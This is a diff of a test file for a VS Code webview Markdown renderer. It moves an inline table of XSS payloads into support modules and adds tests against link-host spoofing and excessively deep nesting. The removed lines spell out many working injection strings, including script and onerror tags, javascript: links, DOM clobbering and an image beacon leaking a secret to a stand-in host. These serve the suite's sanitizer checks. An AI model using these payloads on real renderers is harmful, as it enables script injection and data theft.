@@ -4,11 +4,13 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { ChatProvider, createChat, type Chat } from '../../../src/webview/chat';
 import { createHostPair } from '../../../src/webview/host';
 import { Markdown } from '../../../src/webview/markdown/Markdown';
+import { volumePayloads } from '../../support/hostile/volumePayloads';
+import { hostilePayloads } from '../../support/hostilePayloads';
 import { sampleAnswer, snapshot } from '../../webview/support/conversation';
 
 const allowedElements = new Set(
   (
-    'div span p h3 h4 h5 h6 ul ol li blockquote hr br table thead tbody tr th td strong em del code pre a img ' +
+    'div span p h3 h4 h5 h6 ul ol li blockquote hr br wbr table thead tbody tr th td strong em del code pre a img ' +
     'button input svg path'
   ).split(' '),
 );
@@ -18,44 +20,6 @@ const allowedAttributes = new Set(
     'tabindex start src alt viewBox focusable d fill-rule clip-rule'
   ).split(' '),
 );
-
-/** Families of attacks on whatever draws a model's words. */
-const payloads: Readonly<Record<string, string>> = {
-  script: '<script>alert(1)</script>',
-  onerror: '<img src=x onerror=alert(1)>',
-  svg: '<svg/onload=alert(1)><use href="https://c.test/x.svg#a"/></svg>',
-  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  details: '<details open ontoggle=alert(1)>x</details>',
-  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  form: '<form action="https://c.test"><button>go</button></form>',
-  base: '<base href="https://c.test/"><meta http-equiv="refresh" content="0;url=https://c.test">',
-  style: '<style>@import "https://c.test/x.css"; * { background: url(https://c.test/y) }</style>',
-  template:
-    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  clobbering: '<a id=acquireVsCodeApi><a id=acquireVsCodeApi name=postMessage>',
-  comment: '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]>',
-  javascriptLink:
-    '[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](java&Tab;script:alert(1)) <javascript:alert(1)>',
-  otherLinks:
-    '[a](data:text/html,<b>) [b](vbscript:x) [c](command:workbench.action.quit?%5B%5D) [d](vscode://a.b) [e](file:///etc/passwd) [f](//c.test)',
-  referenceLink: '[x][r]\n\n[r]: javascript:alert(1) "t"\n\n[y][s]\n\n[s]: <command:a.b>',
-  autolink: '<command:workbench.action.quit> <vscode://x/y> <data:text/html,x> www.c.test ftp://c.test',
-  brokenAttribute: '[x](https://c.test/"onmouseover="alert(1)) [y](https://c.test/\'><script>)',
-  titleAttribute: '[x](https://c.test "\\" onclick=alert(1)")',
-  image: '![secret](https://c.test/?q=SECRET) ![x][i]\n\n[i]: https://c.test/i.png',
-  imageInLink: '[![x](https://c.test/a.png)](javascript:alert(1))',
-  imageSources:
-    '![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](file:///x.png) ![c](//c.test/x.png) ![d](javascript:alert(1))',
-  imageTags:
-    '<picture><source srcset="https://c.test/a"><img srcset="https://c.test/b"></picture><video poster=https://c.test/c>',
-  diagram: '```mermaid\ngraph TD; A[<img src="https://c.test">]-->B; click A href "javascript:alert(1)"\n```',
-  formula: '$$\\includegraphics{https://c.test/x}\\href{javascript:alert(1)}{x}$$',
-  codeInfo: '```js"onmouseover="alert(1)\nx\n```\n\n```<script>\ny\n```',
-  tableAlign: '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
-  footnote: '[^1]\n\n[^1]: javascript:alert(1)',
-  hidden: 'a\u202Eb\u200Bc\u{e0041}',
-  nulls: 'a\u0000<scr\u0000ipt>alert(1)</script>',
-};
 
 let chat: Chat | undefined;
 
@@ -102,25 +66,14 @@ afterEach(() => {
 });
 
 describe('Markdown', () => {
-  it.each(Object.entries(payloads))('draws nothing but what is allowed of: %s', (_name, payload) => {
-    expect(problemsIn(draw(payload))).toEqual([]);
-    expect(problemsIn(draw(payload, true))).toEqual([]);
-    expect(problemsIn(draw(`> - ${payload.replaceAll('\n', '\n>   ')}`))).toEqual([]);
+  it.each(hostilePayloads)('draws nothing but what is allowed of $name', ({ text }) => {
+    expect(problemsIn(draw(text))).toEqual([]);
+    expect(problemsIn(draw(text, true))).toEqual([]);
+    expect(problemsIn(draw(`> - ${text.replaceAll('\n', '\n>   ')}`))).toEqual([]);
   });
 
-  it.each(Object.entries(payloads))(
-    'draws nothing but what is allowed at any moment of its arrival: %s',
-    (_name, payload) => {
-      const root = document.createElement('div');
-      for (let end = 1; end <= payload.length; end += 1) {
-        draw(payload.slice(0, end), true, root);
-        expect(problemsIn(root)).toEqual([]);
-      }
-    },
-  );
-
   it('shows HTML as the text that it is', () => {
-    expect(draw(payloads['script'] ?? '').textContent).toBe('<script>alert(1)</script>');
+    expect(draw('<script>alert(1)</script>').textContent).toBe('<script>alert(1)</script>');
   });
 
   it('shows what a refused link leads to, instead of a link', () => {
@@ -166,20 +119,39 @@ describe('Markdown', () => {
     expect(root.textContent).toBe('a\u202Eb');
   });
 
-  it.each([
-    ['quotes', `${'>'.repeat(10_000)} x`],
-    ['brackets', '['.repeat(10_000)],
-    ['stars', `${'*'.repeat(10_000)} x`],
-    ['emphasis', '**a '.repeat(5_000)],
-    ['links', '[a]('.repeat(5_000)],
-    ['lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
-    ['one line', 'word '.repeat(200_000)],
-    ['cells', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(25_000)}`],
-    ['backticks', `${'`'.repeat(10_000)} x ${'`'.repeat(9_000)}`],
-  ])('draws a mass of %s without deep recursion', (_name, text) => {
+  it.each(volumePayloads)('draws a mass of $name without deep recursion', ({ text, plain }) => {
     const root = draw(text);
     expect(depthOf(root)).toBeLessThan(200);
-    expect(root.textContent).not.toBe('');
+    expect(root.querySelector('.plain-text') !== null).toBe(plain);
+  });
+
+  it('draws emphasis inside of emphasis however deep it goes', () => {
+    const root = draw(`${'*a **b '.repeat(800)}deep${' b** a*'.repeat(800)}`);
+    expect(root.textContent).toContain('deep');
+    expect(depthOf(root)).toBeLessThan(100);
+  });
+
+  it('shows the real host of a link whose words are code, a picture or more than an address', () => {
+    for (const words of [
+      '`https://bank.test/login`',
+      '![bank.test](x)',
+      'Log in at www.bank.test now',
+      'bank\u200b.test',
+    ]) {
+      expect(draw(`[${words}](https://evil.test/)`).textContent, words).toContain('(evil.test)');
+    }
+  });
+
+  it('leaves out what stands before the host of a link to look like one', () => {
+    const root = draw('<https://bank.test@evil.test/login>');
+    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://evil.test/login');
+    expect(root.textContent).not.toContain('bank.test');
+  });
+
+  it('shows enough of a refused target, and not all of one that is used again and again', () => {
+    const root = draw(`${'[x][r] '.repeat(50)}\n\n[r]: javascript:${'y'.repeat(20_000)}`);
+    expect(root.textContent).toContain('x (javascript:yyy');
+    expect(root.textContent?.length).toBeLessThan(20_000);
   });
 
   it('loses no word of a text that is nested deeper than can be drawn', () => {
